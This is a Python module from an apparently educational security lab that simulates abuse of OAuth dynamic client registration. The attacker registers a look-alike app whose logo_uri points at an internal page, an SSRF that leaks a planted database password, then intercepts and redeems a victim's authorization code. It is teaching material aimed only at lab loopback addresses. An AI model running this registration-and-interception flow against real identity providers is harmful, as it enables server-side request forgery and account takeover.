"""Lab "registration-abuse": an open registration endpoint trusts what a client says
about itself. A ``logo_uri`` makes a weak server fetch an internal address (SSRF),
and a copied ``client_name`` passes for another app on the consent page (RFC 7591
§5; OIDC Dynamic Client Registration; PortSwigger "SSRF via OpenID dynamic client
registration"). Only the lab's own loopback addresses are ever named."""

from __future__ import annotations

import json
import secrets
from collections.abc import Mapping
from urllib.parse import urlencode

import requests

from flowlab.core.http import s256
from flowlab.core.runner.capture import capture_session
from flowlab.core.runner.capture import exchange_of
from flowlab.labs import client
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import Incoming
from flowlab.labs.store import Run

LOOK_ALIKE = "PlaylistPal"  # another app's name, copied


def prepare(run: Run, lab: Lab, config: Mapping) -> None:
    """The stand-in internal admin page of this run, on the lab's own loopback
    address (``LABS_DECOY_URL``), and the secret only it shows."""
    base = config.get("LABS_DECOY_URL")
    if base:
        run.attacker["internal"] = f"{base}/labs/{lab.id}/{run.id}/internal"
        run.attacker["internal_secret"] = "db-password-" + secrets.token_hex(8)


def internal(run: Run, lab: Lab, sent: Incoming) -> str:
    """The internal admin page: whoever reaches it is recorded (only the server
    should be able to)."""
    run.record("internal", "attacker", "back", sent.exchange())
    return ("Internal admin console (not reachable from the internet)\n"
            f"DATABASE_PASSWORD={run.attacker['internal_secret']}\n")


def metadata(run: Run) -> dict:
    """What the attacker registers (RFC 7591 §2): a copied name, its own redirect
    URI, and a logo "hosted" at the internal address."""
    return {"client_name": LOOK_ALIKE, "logo_uri": run.attacker["internal"],
            "redirect_uris": [client.redirect_uri(run)],
            "token_endpoint_auth_method": "client_secret_basic"}


def attacker_act(run: Run, lab: Lab, config: Mapping) -> None:
    """Register the look-alike app at the variant's issuer (RFC 7591 §3.1)."""
    if not run.attacker.get("internal"):
        return
    session = capture_session(requests.Session())
    response = session.post(
        run.backchannel + client.issuer_path(run, lab) + "/api/register",
        json=metadata(run), timeout=config["HTTP_TIMEOUT"],
        allow_redirects=False)
    run.record("attacker-register", "attacker", "back",
               exchange_of(session, response))
    if response.status_code == 201:
        answer = response.json()
        run.attacker.update(client_id=answer["client_id"],
                            client_secret=answer.get("client_secret"),
                            verifier=secrets.token_urlsafe(48))
        run.client["state"] = secrets.token_urlsafe(24)


def lure(run: Run, lab: Lab) -> str:
    """The authorization request for the look-alike app (with PKCE, which the
    best-practice issuer asks of every client)."""
    params = {"response_type": "code", "client_id": run.attacker["client_id"],
              "scope": client.SCOPE, "redirect_uri": client.redirect_uri(run),
              "state": run.client["state"], "code_challenge_method": "S256",
              "code_challenge": s256(run.attacker["verifier"])}
    return run.origin + client.issuer_path(run, lab) + "/authorize?" + urlencode(
        params)


def intercept(run: Run, lab: Lab, config: Mapping, sent: Incoming) -> None:
    """The look-alike app's redirect URI: a code is redeemed at once."""
    run.record("intercepted", "attacker", "front", sent.exchange())
    code = sent.args.get("code")
    if not code or not run.attacker.get("client_id"):
        return
    session = capture_session(requests.Session())
    response = session.post(
        run.backchannel + client.issuer_path(run, lab) + "/api/token",
        auth=(run.attacker["client_id"], run.attacker["client_secret"]),
        data={"grant_type": "authorization_code", "code": code,
              "redirect_uri": client.redirect_uri(run),
              "code_verifier": run.attacker["verifier"]},
        timeout=config["HTTP_TIMEOUT"], allow_redirects=False)
    run.record("attacker-token", "attacker", "back", exchange_of(session, response))
    if response.ok:
        me = client.call_me(run, config, response.json()["access_token"],
                            key="attacker-me", actor="attacker",
                            api=client.server_path(run, lab))
        run.attacker["account"] = me.get("display_name")


def attacker_view(run: Run, lab: Lab) -> dict:
    """Before: the metadata to register. After: the server's answer (anything it
    fetched included) and the lure for Alice."""
    if not run.attacker.get("internal"):
        return {}
    registered = run.entries("attacker-register")
    view = {"heading": f"Register an app called “{LOOK_ALIKE}”",
            "text": "Open registration: anyone may register an app, with any name "
                    "and logo. The attacker's metadata:",
            "shown": json.dumps(metadata(run), indent=2),
            "button": f"Register “{LOOK_ALIKE}”"}
    if registered and run.attacker.get("client_id"):
        answer = registered[-1].exchange.response
        view.update(heading=f"Message to Alice: “{LOOK_ALIKE} needs you to sign in "
                            "again”", text="What the server answered the "
                    "registration, then the link sent to Alice:",
                    shown=answer.pretty_body() if answer is not None else "",
                    link=lure(run, lab), link_text=f"Sign in to {LOOK_ALIKE}")
        view.pop("button")
    if run.attacker.get("account"):
        view["loot"] = f"Signed in to {run.attacker['account']}'s account"
    return view


def succeeded(run: Run) -> bool | None:
    """On the wire: did a registration answer carry the internal page's secret
    (SSRF), or did a code for the look-alike app buy a token (True)? False once
    a registration was answered without it and Alice refused the look-alike app
    (``access_denied`` at its redirect URI); None until both sides were tried."""
    secret = run.attacker.get("internal_secret")
    registered = run.entries("attacker-register")
    if secret and any(secret in e.exchange.response.text for e in registered
                      if e.exchange.response is not None):
        return True
    if any(wire.status(e) == 200 for e in run.entries("attacker-token")):
        return True
    state = run.client.get("state")
    refused = any(wire.query(e).get("error") == "access_denied" and state
                  and wire.query(e).get("state") == state
                  for e in run.entries("intercepted"))
    tried = any(wire.status(e) == 201 for e in registered)
    return False if tried and refused else None
